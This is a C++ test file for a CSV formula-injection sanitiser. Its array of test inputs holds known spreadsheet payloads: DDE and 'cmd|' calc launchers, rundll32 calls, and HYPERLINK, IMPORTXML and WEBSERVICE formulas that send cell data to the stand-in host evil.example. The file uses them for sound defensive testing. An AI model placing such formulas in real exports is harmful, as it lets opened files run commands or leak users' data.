#include "wire/formula.h"

#include <array>

#include <gtest/gtest.h>
#include <rapidcheck/gtest.h>

#include "wire/csv.h"

namespace sapa::wire {

namespace {

// Published payloads (OWASP and others) and what people type to get around a naive check. The addresses are nobody's.
constexpr std::array kRun = {
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")", "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")", "=WEBSERVICE(\"http://evil.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "=2+5+cmd|' /C calc'!A0", "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=AND(2>1)", "=SUM(A1:A9)*cmd|' /C calc'!A0",
    "+1+1", "+cmd|' /C calc'!A0", "+HYPERLINK(\"http://evil.example\")", "+62 877 0000 1234", "+62-877", "+1",
    "-1+1", "-2+3+cmd|' /C calc'!A0", "--1", "-A1", "- tidak nyala",
    "@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "@", "=", "+", "==", "=-1", "-+1",
    "\t=1+1", "\r=1+1", "\n=1+1", "\tIBU", "\rIBU", "\nIBU", "\r\n=1",
    " =1+1", "   +1", "\"=1+1\"", "\" =1+1", "\"\"\"=1+1", " \"\t=1", "\x01=1+1", "\x0B=1", "\x7F=1", "\xC2\xA0=1+1", "\xE3\x80\x80=1", "\xE2\x80\x8B=1+1", "\xE2\x80\xAF@A1", "\xEF\xBB\xBF=1+1",
    "\xEF\xBC\x9D" "1+1", "\xEF\xBC\x8B" "1", "\xEF\xBC\x8D" "1", "\xEF\xBC\xA0" "A1", " \xEF\xBC\x9D" "1", "\xEF\xB9\xA6" "1", "\xEF\xB9\xA2" "1", "\xEF\xB9\xA3" "1", "\xEF\xB9\xAB" "A1", "\xE2\x88\x92" "1",
    "IBU;=1+1", "IBU; =1+1", "IBU\n=1+1", "IBU\r\n-1+cmd|'x'!A", "IBU\t@A1", "IBU;\"=1+1", "JL MELATI\n\n  +1", "a;b;\xEF\xBC\x9D" "1",
};
static_assert(kRun.size() >= 50);

constexpr std::array kHarmless = {"", "IBU MARNI", "JL. MELATI NO 5-7", "marni@yahoo.com", "1+1=2", "A=1", "'=1+1", "-", "+6287700001234", "+6562345678", "R1T/900", "a;b", "baris 1\nbaris 2", "2019-12-10 09:15", "(=1)", "x\t", "0877-0000-1234"};

}  // namespace

TEST(Formula, what_a_spreadsheet_would_run_is_known) {
  for (const std::string cell : kRun) EXPECT_TRUE(runs_as_formula(cell)) << testing::PrintToString(cell);
}

TEST(Formula, everything_else_stays_as_it_is) {
  for (const std::string cell : kHarmless) {
    EXPECT_FALSE(runs_as_formula(cell)) << testing::PrintToString(cell);
    EXPECT_EQ(without_formula(cell), cell);
  }
}

TEST(Formula, an_apostrophe_stands_where_it_would_run) {
  EXPECT_EQ(without_formula("=1"), "'=1");
  EXPECT_EQ(without_formula(" \"=1"), "' \"=1");
  EXPECT_EQ(without_formula("\t=1"), "'\t'=1");
  EXPECT_EQ(without_formula("IBU;=1\n-2"), "IBU;'=1\n'-2");
  EXPECT_EQ(csv_field("=1,5"), "\"'=1,5\"");
}

RC_GTEST_PROP(FormulaLaws, what_was_neutralised_runs_nothing_and_says_the_same, ()) {
  const auto pieces = *rc::gen::container<std::vector<std::string>>(rc::gen::element<std::string>("=", "+", "-", "@", "\t", "\r", "\n", ";", " ", "\"", "'", "\xEF\xBC\x9D", "\xE2\x80\x8B", "A", "1"));
  std::string text;
  for (const auto& piece : pieces) text += piece;
  const auto safe = without_formula(text);
  RC_ASSERT(!runs_as_formula(safe));
  RC_ASSERT(without_formula(safe) == safe);
  std::size_t at = 0;  // nothing was taken away
  for (const char c : safe) at += at < text.size() && text[at] == c ? 1 : 0;
  RC_ASSERT(at == text.size());
}

}  // namespace sapa::wire
